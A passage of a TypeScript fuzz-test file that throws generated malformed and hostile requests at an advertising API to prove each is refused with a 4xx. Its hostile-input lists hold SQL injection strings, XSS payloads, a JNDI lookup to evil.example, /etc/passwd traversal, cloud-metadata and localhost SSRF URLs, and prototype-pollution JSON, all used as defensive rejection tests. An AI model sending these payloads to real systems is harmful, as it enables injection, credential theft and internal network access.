/**
 * Reliability proof (issue 8): every route of the API, fed generated malformed requests (fast-check) and a set of
 * hand-written hostile ones, answers a 4xx in the docs/CONTRACT.md §1 envelope, never a 5xx, and stores nothing.
 *
 * The generators are built so that every request they make is invalid (each breaks at least one field for good, or
 * sends no valid key), so "nothing stored" holds for all of them. Runs are replayable: FUZZ_SEED (default below)
 * and FUZZ_RUNS (requests per route) pick them.
 */
import { isIP } from 'node:net';
import fc from 'fast-check';
import type { Response } from 'supertest';
import { DataSource } from 'typeorm';
import { TEST_PROFILE } from '../support/profile';
import { uploadAndApply } from '../support/profile-helpers';
import { UNKNOWN_ID } from '../support/serving-fixtures';
import { ADMIN_KEY, startTestApp, TestApp } from '../support/test-app';
import { campaignBody, createAdBlock, createCampaign, createAccount } from '../support/factories';

/** Conversions and the custom events of docs/CONTRACT.md §13. */
const CUSTOM_EVENT_TYPES = ['onboard', 'register', 'play', 'payment', 'withdraw'];
const EVENT_TYPES = ['conversion', ...CUSTOM_EVENT_TYPES];
/** Campaign categories (docs/CONTRACT.md §18). */
const CATEGORIES = ['games', 'apps', 'finance', 'crypto', 'gambling', 'dating', 'shopping', 'education', 'entertainment', 'other'];

const SEED = Number(process.env.FUZZ_SEED ?? 868_012_121);
const RUNS = Number(process.env.FUZZ_RUNS ?? 30);

const OPENAPI = '/api/v2/openapi';
const ADMIN = '/api/v2/admin';
const MAX_TIMESTAMP = 9_999_999_999_999;
/** Past this many bytes a query string may be refused as too long (414) or overflow the header limit (431). */
const LONG_QUERY_BYTES = 4096;
const SMALL_BODY_LIMIT = 4096;
/** Every route but the bulk uploads takes bodies up to 64 KiB (docs/TRUST_AND_SAFETY.md). */
const ROUTE_BODY_LIMIT = 64 * 1024;
const BULK_BODY_ROUTES = [/\/user\/profile\/batch$/, /\/user\/profile\/batch\/csv$/];
const SMALL_CSV_LIMIT = 2048;

/** An edit that removes the field instead of setting it. */
const ABSENT = Symbol('absent');
type Edit = [path: string, value: unknown];
type Method = 'GET' | 'POST';
type Json = Record<string, unknown>;
type Account = { accountId: string; apiKey: string };

/** One request and the statuses allowed to answer it. */
interface Attempt {
  method: Method;
  path: string;
  /** name/value pairs (a name may repeat), or a query string sent exactly as given */
  query?: [string, string][] | string;
  /** null: no x-api-key header at all */
  key: string | null;
  contentType?: string;
  body?: string | Buffer;
  headers?: Record<string, string>;
  expect: number[];
}

interface Fixtures {
  advertiser: Account;
  publisher: Account;
  partner: Account;
  adminAccountId: string;
  campaignId: string;
  adBlockId: string;
  exchangeCampaignId: string;
  batchId: string;
  keyId: string;
}

// ---------------------------------------------------------------------------------------------------------------
// Value generators. Each `bad.*` generator yields only values the contract refuses for that kind of field.
// ---------------------------------------------------------------------------------------------------------------

const HOSTILE_TEXT = [
  "'; DROP TABLE campaigns; --",
  '" OR "1"="1',
  '1 UNION SELECT apiKeyHash FROM api_keys',
  "x') OR ('a'='a",
  '%_%',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '\u0000nul byte',
  '\ud800 lone high surrogate',
  'lone low \udfff',
  '\u202eright-to-left override',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%0d%0a',
  'emoji 🎯 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e400',
  '__proto__',
];
const hostileText = fc.constantFrom(...HOSTILE_TEXT);
/** Hostile text that can travel in an HTTP header (printable ASCII). */
const hostileHeaderText = fc.constantFrom(...HOSTILE_TEXT.filter((text) => /^[\x20-\x7e]+$/.test(text)));

const whitespace = fc.array(fc.constantFrom(' ', '\t', '\n', '\r', '\u00a0', '\u2003'), { minLength: 1, maxLength: 6 }).map((chars) => chars.join(''));
const longerThan = (max: number) =>
  fc.oneof(
    { weight: 5, arbitrary: fc.integer({ min: max + 1, max: max + 64 }).map((length) => 'x'.repeat(length)) },
    { weight: 1, arbitrary: fc.constant('y'.repeat(100_000)) },
  );
const smallObject = fc.dictionary(fc.string({ minLength: 1, maxLength: 5 }).filter(isPlainKey), fc.integer(), { maxKeys: 2 });
const absentIf = (required: boolean) => (required ? [fc.constant<unknown>(ABSENT)] : []);
const nullIf = (required: boolean) => (required ? [fc.constant<unknown>(null)] : []);

function isPlainKey(key: string): boolean {
  return key !== '__proto__' && key !== 'constructor' && key !== 'prototype';
}

/** Not a string; `null` only where null is not accepted as "absent" (required fields). */
const notString = (required: boolean) =>
  fc.oneof(
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.boolean(),
    fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }),
    smallObject,
    ...nullIf(required),
  );
/** Not a JSON number (bodies are never converted: "5" is a string). */
const notNumber = (required: boolean) =>
  fc.oneof(
    fc.string({ maxLength: 10 }),
    fc.constantFrom('NaN', 'Infinity', '-Infinity', '1e400', '5', '0x10'),
    fc.boolean(),
    fc.array(fc.integer(), { maxLength: 3 }),
    smallObject,
    ...nullIf(required),
  );

const bad = {
  /** IsText: required (unless optional) non-blank string of at most `max` characters */
  text: (max: number, required = true) => fc.oneof(notString(required), fc.constant(''), whitespace, longerThan(max), ...absentIf(required)),
  /** id-like string: non-empty, at most `max` characters */
  id: (max: number, required = true) => fc.oneof(notString(required), fc.constant(''), longerThan(max), ...absentIf(required)),
  url: (required = true) =>
    fc.oneof(
      notString(required),
      fc.constantFrom(
        '',
        'javascript:alert(1)',
        'ftp://cdn.example.com/a.png',
        '//cdn.example.com/a.png',
        'http://',
        'https://',
        'data:image/png;base64,iVBORw0KGgo=',
        '<script>alert(1)</script>',
        `https://cdn.example.com/${'a'.repeat(2100)}`,
      ),
      fc.string({ maxLength: 30 }).filter((text) => !/^https?:/i.test(text)),
      ...absentIf(required),
    ),
  oneOf: (allowed: readonly string[], required = true) =>
    fc.oneof(
      notString(required),
      fc.string({ maxLength: 20 }).filter((text) => !allowed.includes(text)),
      fc.constantFrom(...allowed.flatMap((value) => [value.toUpperCase(), value.toLowerCase(), ` ${value}`]).filter((value) => !allowed.includes(value))),
      ...absentIf(required),
    ),
  /** USDT amount: a number > 0, at most 1e9, at most 6 decimals */
  usdt: (required = true) =>
    fc.oneof(
      notNumber(required),
      fc.double({ max: 0, noNaN: true, noDefaultInfinity: true }),
      fc.double({ min: 1_000_000_001, noNaN: true, noDefaultInfinity: true }),
      fc.constantFrom(0.0000001, 1.1234567, 1e-9),
      ...absentIf(required),
    ),
  /** integer ms timestamp from 0 to MAX_TIMESTAMP */
  timestamp: (required = true) =>
    fc.oneof(
      notNumber(required),
      fc.integer({ max: -1 }),
      fc.double({ noNaN: true, noDefaultInfinity: true }).filter((value) => !Number.isInteger(value)),
      fc.double({ min: 1e13, noNaN: true, noDefaultInfinity: true }).filter((value) => value > MAX_TIMESTAMP),
      ...absentIf(required),
    ),
  /** optional flags: null and absence are accepted, so only wrong types break them */
  flag: () =>
    fc.oneof(
      fc.constantFrom('true', 'false', '1', '0', 'yes', ''),
      fc.integer({ min: 0, max: 1 }),
      fc.array(fc.boolean(), { minLength: 1, maxLength: 2 }),
      smallObject,
    ),
  object: (required = true) =>
    fc.oneof(
      fc.string({ maxLength: 10 }),
      fc.integer(),
      fc.boolean(),
      fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
      ...nullIf(required),
      ...absentIf(required),
    ),
  /** an optional list whose items must pass `valid`: a non-list, a bad item among good ones, or too many items */
  list: (goodItem: fc.Arbitrary<string>, badItem: fc.Arbitrary<unknown>, maxItems: number, filler: string) =>
    fc.oneof(
      fc.oneof(fc.string({ maxLength: 5 }), fc.integer(), fc.boolean(), smallObject),
      fc.tuple(fc.array(goodItem, { maxLength: 2 }), badItem, fc.array(goodItem, { maxLength: 2 })).map(([before, item, after]) => [...before, item, ...after]),
      fc.constant(Array.from({ length: maxItems + 1 }, () => filler)),
    ),
};

const regionList = bad.list(
  fc.constantFrom('US', 'de', 'Gb'),
  fc.oneof(
    notString(true),
    fc.string({ maxLength: 5 }).filter((code) => !/^[A-Za-z]{2}$/.test(code)),
    fc.constantFrom('XX', 'ZZ', 'AA', 'USA'),
  ),
  250,
  'US',
);
const languageList = bad.list(
  fc.constantFrom('en', 'RU'),
  fc.oneof(
    notString(true),
    fc.string({ maxLength: 5 }).filter((code) => !/^[A-Za-z]{2}$/.test(code)),
    fc.constantFrom('xx', 'qq', 'zz', 'en-US'),
  ),
  200,
  'en',
);

/** `Number(text)`, as the query DTOs convert, is an integer in [min, max]. */
const integerIn = (text: string, min: number, max: number) => {
  const value = Number(text);
  return Number.isInteger(value) && value >= min && value <= max;
};

/** Query values (strings; a list is sent as a repeated parameter). */
const badQuery = {
  id: (max: number) => fc.oneof(fc.constant(''), longerThan(max), fc.array(fc.string({ minLength: 1, maxLength: 8 }), { minLength: 2, maxLength: 3 })),
  integer: (min: number, max: number) =>
    fc.oneof(
      fc
        .oneof(
          fc.string({ maxLength: 12 }),
          fc.constantFrom('', ' ', '0', '-1', '1.5', 'NaN', 'Infinity', '-Infinity', '1e400', 'one', '9'.repeat(40), "1' OR '1'='1"),
          fc.constant(String(max + 1)),
          fc.integer().map(String),
          fc.double().map(String),
        )
        .filter((text) => !integerIn(text, min, max)),
      fc.array(fc.integer({ min, max }).map(String), { minLength: 2, maxLength: 3 }),
    ),
  oneOf: (allowed: readonly string[]) =>
    fc.oneof(
      fc.string({ maxLength: 12 }).filter((text) => !allowed.includes(text)),
      fc.constant([allowed[0], allowed[0]]),
    ),
};

/**
 * The Open API alias of a user id (telegramUserId) beside the base's messengerUserId 'fuzz-user': a bad value, or a
 * good one that differs, is refused either way.
 */
const conflictingAlias = fc.oneof(notString(true), fc.constant(''), longerThan(128), fc.constant('another-fuzz-user'));

// ---------------------------------------------------------------------------------------------------------------
// Building broken requests: a valid base, optional harmless noise, then at least one breaking edit.
// ---------------------------------------------------------------------------------------------------------------

const edit = (path: string, value: fc.Arbitrary<unknown>): fc.Arbitrary<Edit[]> => value.map((v) => [[path, v]]);

/**
 * Sets (or removes) a dotted path, creating missing parents. When an earlier edit replaced a parent with a non-object,
 * that edit already broke the body and this one is skipped.
 */
function setAt(root: Json, path: string, value: unknown): void {
  const keys = path.split('.');
  let node: Json = root;
  for (const key of keys.slice(0, -1)) {
    if (node[key] === undefined) node[key] = {};
    const next = node[key];
    if (next === null || typeof next !== 'object') return;
    node = next as Json;
  }
  const last = keys[keys.length - 1];
  if (value === ABSENT) delete (node as Json)[last];
  else (node as Json)[last] = value;
}

const someOf = (breakers: fc.Arbitrary<Edit[]>[]) =>
  fc
    .uniqueArray(fc.nat({ max: breakers.length - 1 }), { minLength: 1, maxLength: Math.min(3, breakers.length) })
    .chain((picked) => fc.tuple(...picked.map((index) => breakers[index])));
const anyOf = (noise: fc.Arbitrary<Edit[]>[]) =>
  fc.subarray(noise).chain((picked) => (picked.length === 0 ? fc.constant([] as Edit[][]) : fc.tuple(...picked)));

/** Unknown fields are ignored by contract, so they never decide validity: they ride along as noise. */
const KNOWN_NAMES = new Set(
  'name targeting budget bidding ad verificationUrl campaignId status adBlockId exchangeCampaignId batchId eventType eventData list label roles icon image text destination openId type limit current pageSize from to granularity scope allowedOrigins keyId viewer source sign events eventName eventSource walletAddress walletClassify uuid'.split(
    ' ',
  ),
);
// a known name would not be noise: an unknown "budget" could carry a total that makes a breaking amount valid
const unknownName = fc.string({ minLength: 1, maxLength: 10 }).filter((name) => isPlainKey(name) && !KNOWN_NAMES.has(name));
const unknownFields = fc.dictionary(unknownName, fc.jsonValue({ maxDepth: 3 }), { maxKeys: 3 });
const unknownParams = fc.dictionary(unknownName, fc.string({ maxLength: 20 }), { maxKeys: 3 });

function brokenObject(
  base: () => Json,
  breakers: fc.Arbitrary<Edit[]>[],
  noise: fc.Arbitrary<Edit[]>[] = [],
  extras: fc.Arbitrary<Json> = unknownFields,
): fc.Arbitrary<Json> {
  return fc.tuple(anyOf(noise), someOf(breakers), extras).map(([noiseEdits, breakingEdits, extra]) => {
    const value = { ...extra, ...base() };
    for (const edits of [...noiseEdits, ...breakingEdits]) for (const [path, v] of edits) setAt(value, path, v);
    return value;
  });
}

function toPairs(query: Json): [string, string][] {
  return Object.entries(query).flatMap(([name, value]) =>
    Array.isArray(value) ? value.map((item): [string, string] => [name, String(item)]) : [[name, String(value)]],
  );
}

const jsonBody = (body: fc.Arbitrary<Json>): fc.Arbitrary<Partial<Attempt>> =>
  body.map((value) => ({ body: JSON.stringify(value), contentType: 'application/json' }));
const queryOf = (query: fc.Arbitrary<Json>): fc.Arbitrary<Partial<Attempt>> => query.map((value) => ({ query: toPairs(value) }));
/** brokenObject for query strings: the unknown parameters that ride along are strings. */
const brokenQuery = (base: () => Json, breakers: fc.Arbitrary<Edit[]>[]) => brokenObject(base, breakers, [], unknownParams);

/** An id that is well-formed but belongs to nothing: the lookup itself must answer 404. */
const unknownId = (known: () => string[]) =>
  fc
    .oneof(fc.string({ minLength: 1, maxLength: 64 }), hostileText, fc.constant(UNKNOWN_ID))
    .filter((id) => id.length > 0 && id.length <= 64 && !known().includes(id));

/** Percent-encodes every byte outside the unreserved set; lone surrogates become U+FFFD, as any client would send. */
function encode(text: string): string {
  let out = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    out += /[A-Za-z0-9_~-]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return out;
}

/** A path parameter that names nothing, does not decode, or is over the router's length limit. */
const badPathParam = (known: () => string[]) =>
  fc.oneof(
    { weight: 4, arbitrary: unknownId(known).map(encode) },
    { weight: 1, arbitrary: fc.constantFrom('%ED%A0%80', '%zz', '%', '%C3', '%FF%FE', 'abc%E0%80') },
    { weight: 1, arbitrary: fc.integer({ min: 201, max: 400 }).map((length) => 'a'.repeat(length)) },
  );

function unparsable(text: string): boolean {
  try {
    JSON.parse(text);
    return false;
  } catch {
    return true;
  }
}

const malformedJson = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":',
    '[1,2',
    '{"a":1,}',
    "{'a':1}",
    '{a:1}',
    'undefined',
    'NaN',
    '{"a":NaN}',
    '{"a":Infinity}',
    '{"a":1e400',
    '{"a":"\\ud800',
    '{"a":"\\x41"}',
    '{"a":01}',
    '{"a":.5}',
    '}{',
    '{"a":1}{"b":2}',
    '/* comment */ {}',
    // valid JSON that the parser refuses as prototype poisoning
    '{"__proto__":{"polluted":true}}',
    '{"constructor":{"prototype":{"polluted":true}}}',
  ),
  fc
    .json()
    .map((text) => text.slice(0, Math.max(1, text.length - 1)))
    .filter(unparsable),
  fc.string({ minLength: 1, maxLength: 40 }).filter((text) => text.trim() !== '' && unparsable(text)),
);
const notAnObjectJson = fc
  .oneof(
    fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }),
    fc.string({ maxLength: 20 }),
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.boolean(),
    fc.constant(null),
  )
  .map((value) => JSON.stringify(value));
const FOREIGN_CONTENT_TYPES = [
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=fuzz',
  'application/octet-stream',
  'text/html',
  'image/png',
  'application/json-patch+json',
  'application/vnd.api+json',
  'application/javascript',
];

// ---------------------------------------------------------------------------------------------------------------
// The routes
// ---------------------------------------------------------------------------------------------------------------

interface Route {
  /** `METHOD path` as in the Swagger document */
  name: string;
  method: Method;
  path: string;
  key: string;
  /** valid keys whose account lacks the route's role */
  wrongRoleKeys: string[];
  /** what a POST reads from its body */
  body?: 'json' | 'csv' | 'none';
  /** a well-formed request, sent only with a missing, unknown or wrong-role key */
  valid: () => Partial<Attempt>;
  /** requests with the route's own key that must fail on their input */
  broken?: fc.Arbitrary<Partial<Attempt>>;
}

const exchangeBody = (): Json => ({
  name: 'Fuzz exchange',
  icon: 'https://cdn.example.com/icon.png',
  image: 'https://cdn.example.com/banner.png',
  text: 'Swap traffic with us',
  destination: { actionType: 'open.miniapp', url: 'https://t.example/fuzz' },
});
const validRecord = (i: number): Json => ({
  messengerUserId: `fuzz-user-${i}`,
  ipAddress: '8.8.8.8',
  walletAddress: 'EQD4FPq-PRDieyQKkizFTRtSDyucUIqrj0v',
  walletClassify: 'primary',
  isPremium: true,
  language: 'en',
});
const CSV_COLUMNS = ['messengerUserId', 'walletAddress', 'walletClassify', 'ipAddress', 'isPremium', 'language'];
const csvLine = (cells: readonly string[]) => cells.map((cell) => `"${cell.replace(/"/g, '""')}"`).join(',');
const goodCsvRow = hostileText.filter((text) => text.trim() === text && !/[\r\n]/.test(text)).map((id) => [id, 'EQD4FPq', 'evm', '81.2.69.142', 'yes', 'de']);
const badCsvRow = fc.oneof(
  fc.constant(['', 'EQD4FPq', 'evm', '8.8.8.8', 'true', 'en']),
  fc.constant(['u'.repeat(129), 'EQD4FPq', 'evm', '8.8.8.8', 'true', 'en']),
  fc.constantFrom('300.1.1.1', 'not-an-ip', '10.0.1', '::g').map((ip) => ['csv-user', 'EQD4FPq', 'evm', ip, 'true', 'en']),
  fc.constantFrom('solana', 'PRIMARY', 'evm ').map((kind) => ['csv-user', 'EQD4FPq', kind, '8.8.8.8', 'true', 'en']),
  fc.constant(['csv-user', 'EQD4FPq', '', '8.8.8.8', 'true', 'en']),
  fc.constant(['csv-user', '', 'evm', '8.8.8.8', 'true', 'en']),
  fc.constant(['csv-user', 'w'.repeat(129), 'evm', '8.8.8.8', 'true', 'en']),
  fc.constantFrom('maybe', '2', 'NaN').map((flag) => ['csv-user', 'EQD4FPq', 'evm', '8.8.8.8', flag, 'en']),
  fc.constantFrom('xx', 'eng', '12').map((language) => ['csv-user', 'EQD4FPq', 'evm', '8.8.8.8', 'true', language]),
  fc.constant(['csv-user', 'EQD4FPq', 'evm', '8.8.8.8', 'true', 'en', 'one cell too many']),
);
const brokenCsv = fc.oneof(
  // a header without every required column
  fc
    .subarray([...CSV_COLUMNS, 'note'])
    .filter((columns) => !['messengerUserId', 'walletAddress', 'walletClassify'].every((column) => columns.includes(column)))
    .map((columns) => `${columns.join(',')}\n${csvLine(columns.map(() => 'x'))}\n`),
  // one bad row among good ones
  fc
    .tuple(fc.array(goodCsvRow, { maxLength: 3 }), badCsvRow, fc.array(goodCsvRow, { maxLength: 3 }))
    .map(([before, row, after]) => [CSV_COLUMNS.join(','), ...[...before, row, ...after].map(csvLine)].join('\n') + '\n'),
  // no rows at all
  fc.constantFrom('', '\n\n', `${CSV_COLUMNS.join(',')}\n`, '\uFEFF'),
  // not CSV
  fc.constantFrom(`${CSV_COLUMNS.join(',')}\n"unclosed,EQD4,evm,8.8.8.8,true,en\n`, '{"list":[{"messengerUserId":"x"}]}'),
);

function buildRoutes(f: Fixtures): Route[] {
  const adv = f.advertiser.apiKey;
  const pub = f.publisher.apiKey;
  const partner = f.partner.apiKey;
  const knownIds = () => [
    f.campaignId,
    f.adBlockId,
    f.exchangeCampaignId,
    f.batchId,
    f.keyId,
    f.adminAccountId,
    f.advertiser.accountId,
    f.publisher.accountId,
    f.partner.accountId,
  ];
  const notAdvertiser = [pub, partner];
  const notPublisher = [adv, partner];
  const notPartner = [adv, pub];
  const notAdmin = [adv, pub, partner];

  const idBreakers = (name: string) => [edit(name, fc.oneof(badQuery.id(64), fc.constant(ABSENT))), edit(name, unknownId(knownIds))];
  /** The rewarded-ad settings of a block (create and update): null is refused for each but rewardUrl, which removes it. */
  const rewardBreakers = [
    edit('format', fc.oneof(bad.oneOf(['banner', 'rewarded'], false), fc.constant(null))),
    edit('rewardUrl', fc.oneof(bad.url(false), fc.constantFrom('http://127.0.0.1/r', 'http://localhost/r', 'http://169.254.169.254/', 'http://[::1]/r'))),
    edit('minViewMs', fc.oneof(notNumber(false), fc.constantFrom(4999, 60001, 7000.5, -1, null))),
    edit('dailyRewardCap', fc.oneof(notNumber(false), fc.constantFrom(0, 10001, 2.5, -3, null))),
  ];
  const pagingBreakers = [edit('current', badQuery.integer(1, 1_000_000)), edit('pageSize', badQuery.integer(1, 100))];
  const timestampQuery = badQuery.integer(0, MAX_TIMESTAMP);
  const rangeBreakers = [
    edit('from', timestampQuery),
    edit('to', timestampQuery),
    fc.tuple(fc.integer({ min: 0, max: 2_000_000_000_000 }), fc.nat({ max: 1_000_000_000 })).map(([to, back]): Edit[] => [
      ['to', String(to)],
      ['from', String(to + back)],
    ]),
  ];
  const seriesBreakers = [
    ...rangeBreakers,
    edit('granularity', badQuery.oneOf(['hour', 'day'])),
    fc.constant<Edit[]>([
      ['granularity', 'hour'],
      ['from', '0'],
      ['to', String(MAX_TIMESTAMP)],
    ]),
  ];
  const listRoute = (name: string, path: string, key: string, wrongRoleKeys: string[]): Route => ({
    name,
    method: 'GET',
    path,
    key,
    wrongRoleKeys,
    valid: () => ({ query: [['pageSize', '5']] }),
    broken: queryOf(brokenQuery(() => ({}), pagingBreakers)),
  });
  const fetchHeaders = fc.record(
    {
      debug: fc.oneof(fc.constantFrom('true', '1', 'TRUE', 'false'), fc.string({ maxLength: 10 })),
      'user-agent': fc.oneof(hostileHeaderText, fc.string({ maxLength: 60 })),
      'accept-language': fc.oneof(fc.constantFrom('*', 'zu-ZA;q=0.9, en;q=abc', ';;;,,,q=', 'x'.repeat(500)), fc.string({ maxLength: 30 })),
      'x-forwarded-for': fc.oneof(fc.constantFrom('8.8.8.8', '::1', '999.1.1.1', 'unknown, , 1.1.1.1'), fc.string({ maxLength: 20 })),
    },
    { requiredKeys: [] },
  );

  const campaignBreakers: fc.Arbitrary<Edit[]>[] = [
    edit('name', bad.text(200)),
    edit('targeting', bad.object()),
    fc.constantFrom('includedRegions', 'excludedRegions').chain((field) => edit(`targeting.${field}`, regionList)),
    fc.constantFrom('includedLanguages', 'excludedLanguages').chain((field) => edit(`targeting.${field}`, languageList)),
    edit('targeting.platform', bad.oneOf(['All', 'iOS', 'Android', 'Desktop'], false)),
    fc
      .constantFrom(
        'messengerPremium',
        'isHighValueUser',
        'userLinkedChainWallet',
        'userLinkedWallet',
        'userWalletHasBalanceOnChain',
        'telegramPremium',
        'userLinkedTonWallet',
      )
      .chain((flag) => edit(`targeting.${flag}`, bad.flag())),
    edit('budget', bad.object()),
    fc.constantFrom('amount', 'total').chain((field) => edit(`budget.${field}`, bad.usdt())),
    edit('budget.strategy', bad.oneOf(['daily'])),
    fc.constantFrom('startTime', 'endTime').chain((field) => edit(`budget.${field}`, bad.timestamp())),
    fc.tuple(fc.integer({ min: 0, max: 4_000_000_000_000 }), fc.nat({ max: 86_400_000 })).map(([start, back]): Edit[] => [
      ['budget.startTime', start + back],
      ['budget.endTime', start],
    ]),
    fc.integer({ min: 2, max: 1000 }).map((total): Edit[] => [
      ['budget.total', total],
      ['budget.amount', total + 1],
    ]),
    edit('bidding', bad.object()),
    edit('bidding.billingType', bad.oneOf(['CPM', 'CPC'])),
    edit('bidding.costPer', bad.usdt()),
    fc.constant<Edit[]>([
      ['bidding.billingType', 'CPM'],
      ['bidding.costPer', 1.2345],
    ]),
    edit('ad', bad.object()),
    edit('ad.adFormat', bad.oneOf(['image'])),
    fc.constantFrom('popupImage', 'icon').chain((field) => edit(`ad.${field}`, bad.url())),
    edit('ad.destination', bad.object()),
    edit('ad.destination.actionType', bad.oneOf(['visit.website', 'open.miniapp'])),
    edit('ad.destination.url', bad.url()),
    edit('ad.text', bad.text(1000)),
    edit('ad.brandName', bad.text(100)),
    edit('ad.buttonText', bad.text(50)),
    edit('verificationUrl', bad.url(false)),
    edit('optimizationEvent', bad.oneOf(EVENT_TYPES, false)),
    edit('category', bad.oneOf(CATEGORIES, false)),
  ];
  const campaignNoise = [edit('name', hostileText), edit('ad.text', hostileText), edit('ad.brandName', hostileText), edit('ad.buttonText', hostileText)];

  const campaignUpdateBreakers: fc.Arbitrary<Edit[]>[] = [
    ...idBreakers('campaignId'),
    edit('name', bad.text(200, false)),
    edit('targeting', bad.object(false)),
    fc.constantFrom('includedRegions', 'excludedRegions').chain((field) => edit(`targeting.${field}`, regionList)),
    edit('targeting.platform', bad.oneOf(['All', 'iOS', 'Android', 'Desktop'], false)),
    edit('budget', bad.object(false)),
    fc.constantFrom('amount', 'total').chain((field) => edit(`budget.${field}`, bad.usdt(false))),
    edit('budget.strategy', bad.oneOf(['daily'], false)),
    fc.constantFrom('startTime', 'endTime').chain((field) => edit(`budget.${field}`, bad.timestamp(false))),
    // valid alone, refused against the stored campaign (daily budget 50 of total 1000, running now)
    fc.integer({ min: 1001, max: 1_000_000 }).map((amount): Edit[] => [['budget.amount', amount]]),
    fc.constant<Edit[]>([['budget.endTime', 0]]),
    edit('bidding', bad.object(false)),
    edit('bidding.billingType', bad.oneOf(['CPM', 'CPC'], false)),
    edit('bidding.costPer', bad.usdt(false)),
    edit('ad', bad.object(false)),
    fc.constantFrom('popupImage', 'icon').chain((field) => edit(`ad.${field}`, bad.url(false))),
    edit('ad.destination', bad.object(false)),
    edit('ad.destination.url', bad.url(false)),
    edit('ad.text', bad.text(1000, false)),
    edit('verificationUrl', bad.url(false)),
    edit('optimizationEvent', bad.oneOf(EVENT_TYPES, false)),
    edit('category', bad.oneOf(CATEGORIES, false)),
  ];
  // valid changes that must not land when another field breaks the request
  const campaignUpdateNoise = [
    edit('name', hostileText),
    edit('optimizationEvent', fc.constantFrom(...CUSTOM_EVENT_TYPES)),
    edit('category', fc.constantFrom('gambling', 'games')),
    edit('ad.text', hostileText),
    fc.constant<Edit[]>([['targeting', { platform: 'iOS', includedRegions: ['FR'] }]]),
    fc.constant<Edit[]>([['budget', { amount: 60 }]]),
    fc.constant<Edit[]>([['verificationUrl', null]]),
  ];

  const exchangeBreakers = (update: boolean): fc.Arbitrary<Edit[]>[] => {
    const required = !update;
    return [
      edit('name', bad.text(200, required)),
      edit('icon', bad.url(required)),
      edit('image', bad.url(false)),
      edit('text', bad.text(1000, required)),
      edit('destination', bad.object(required)),
      edit('destination.actionType', bad.oneOf(['visit.website', 'open.miniapp'], required)),
      edit('destination.url', bad.url(required)),
      edit('targeting', bad.object(false)),
      fc.constantFrom('includedRegions', 'excludedRegions').chain((field) => edit(`targeting.${field}`, regionList)),
      fc.constantFrom('includedLanguages', 'excludedLanguages').chain((field) => edit(`targeting.${field}`, languageList)),
    ];
  };

  const recordBreakers: fc.Arbitrary<Edit[]>[] = [
    edit('list', fc.oneof(fc.string({ maxLength: 5 }), fc.integer(), fc.boolean(), smallObject, fc.constant(null), fc.constant([]), fc.constant(ABSENT))),
    fc.constant<Edit[]>([['list', Array.from({ length: 5001 }, (_, i) => ({ messengerUserId: `over-${i}` }))]]),
    fc
      .tuple(
        fc.nat({ max: 2 }),
        fc.oneof(
          fc.string({ maxLength: 5 }),
          fc.integer(),
          fc.boolean(),
          fc.constant(null),
          fc.array(fc.constant(validRecord(9)), { minLength: 1, maxLength: 1 }),
        ),
      )
      .map(([i, value]): Edit[] => [[`list.${i}`, value]]),
    fc.tuple(fc.nat({ max: 2 }), bad.text(128)).map(([i, value]): Edit[] => [[`list.${i}.messengerUserId`, value]]),
    fc
      .tuple(
        fc.nat({ max: 2 }),
        fc.oneof(
          notString(false),
          fc.string({ maxLength: 20 }).filter((text) => /[^0-9a-fA-F.:]/.test(text) && !text.includes('%') && isIP(text) === 0),
          fc.constantFrom('256.1.1.1', '1.2.3', '1.2.3.4.5', '::g', '', 'localhost'),
        ),
      )
      .map(([i, value]): Edit[] => [[`list.${i}.ipAddress`, value]]),
    fc
      .tuple(fc.nat({ max: 2 }), fc.oneof(notString(false), fc.constant(''), longerThan(128)))
      .map(([i, value]): Edit[] => [[`list.${i}.walletAddress`, value]]),
    fc.tuple(fc.nat({ max: 2 }), conflictingAlias).map(([i, value]): Edit[] => [[`list.${i}.telegramUserId`, value]]),
    // the two wallet rules depend on each other, so each of these sets both fields
    fc
      .tuple(
        fc.nat({ max: 2 }),
        fc.oneof(
          fc.string({ maxLength: 10 }).filter((text) => !['primary', 'evm', 'alt', 'ton'].includes(text)),
          notString(true),
          fc.constant(ABSENT),
        ),
      )
      .map(([i, value]): Edit[] => [
        [`list.${i}.walletAddress`, 'EQD4FPq'],
        [`list.${i}.walletClassify`, value],
      ]),
    fc.tuple(fc.nat({ max: 2 }), fc.constantFrom<unknown>(ABSENT, null)).map(([i, wallet]): Edit[] => [
      [`list.${i}.walletAddress`, wallet],
      [`list.${i}.walletClassify`, 'evm'],
    ]),
    fc
      .tuple(fc.nat({ max: 2 }), fc.constantFrom('isPremium', 'isHighValue', 'walletHasBalance'), bad.flag())
      .map(([i, flag, value]): Edit[] => [[`list.${i}.${flag}`, value]]),
    fc
      .tuple(fc.nat({ max: 2 }), fc.oneof(notString(false), fc.constantFrom('xx', 'qq', 'en-US', 'eng', '')))
      .map(([i, value]): Edit[] => [[`list.${i}.language`, value]]),
  ];
  const recordNoise = [
    fc.tuple(fc.nat({ max: 2 }), hostileText).map(([i, id]): Edit[] => [[`list.${i}.messengerUserId`, id]]),
    fc.tuple(fc.nat({ max: 2 }), fc.jsonValue({ maxDepth: 3 })).map(([i, value]): Edit[] => [[`list.${i}.unknownField`, value]]),
  ];

  const statusBreakers = (idField: string) => [...idBreakers(idField), edit('status', bad.oneOf(['start', 'paused', 'end']))];
  const adminPath = (template: string, param: string) => template.replace(/\{\w+\}/, param);

  return [
    {
      name: `POST ${OPENAPI}/ad/campaign/create`,
      method: 'POST',
      path: `${OPENAPI}/ad/campaign/create`,
      key: adv,
      wrongRoleKeys: notAdvertiser,
      body: 'json',
      valid: () => ({ body: JSON.stringify(campaignBody()) }),
      broken: jsonBody(
        fc.oneof(
          { weight: 5, arbitrary: brokenObject(() => campaignBody() as unknown as Json, campaignBreakers, campaignNoise) },
